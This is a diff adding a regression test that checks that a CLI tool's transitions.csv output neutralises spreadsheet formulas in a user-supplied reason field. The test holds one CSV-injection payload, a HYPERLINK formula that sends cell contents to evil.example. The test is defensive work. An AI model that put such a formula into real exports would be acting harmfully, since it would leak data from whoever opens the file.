@@ -123,3 +123,27 @@ def test_the_status_of_a_state_file_without_a_state_cannot_decide(fairgate, tmp_
     code, out, err = fairgate("breaker", "status", "svc", "--state-dir", state_dir)
     assert code == 2, out + err
     assert "fairgate failed" not in err and "closed" not in out
+
+
+def test_a_person_s_reason_is_no_formula_in_transitions_csv(fairgate, tmp_path):
+    """``--reason "=HYPERLINK(...)"`` went into transitions.csv as written: a spreadsheet
+    opening the monitoring evidence ran it as a formula."""
+    import pandas as pd
+
+    path = tmp_path / "log.csv"
+    service_log([0.05] * 2, per_window=200).to_csv(path, index=False)
+    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path))
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    code, out, err = fairgate(
+        "breaker", "open", "service-watch", "--by", "@Ana", "--reason", formula,
+        "--state-dir", tmp_path / "state",
+    )  # fmt: skip
+    assert code == 0, out + err
+    code, output = _monitor(fairgate, tmp_path, spec, path)
+    assert code == 5, output
+    table = pd.read_csv(tmp_path / "out" / "transitions.csv", dtype=str)
+    (row,) = table[table["cause"] == "force_open"].itertuples()
+    assert row.reason == "'" + formula and row.by == "'@Ana"
+    texts = ["label", "before", "after", "cause", "check", "group", "by", "reason", "at"]
+    for cell in table[texts].fillna("").to_numpy().ravel():
+        assert cell[:1] not in ("=", "+", "-", "@"), cell
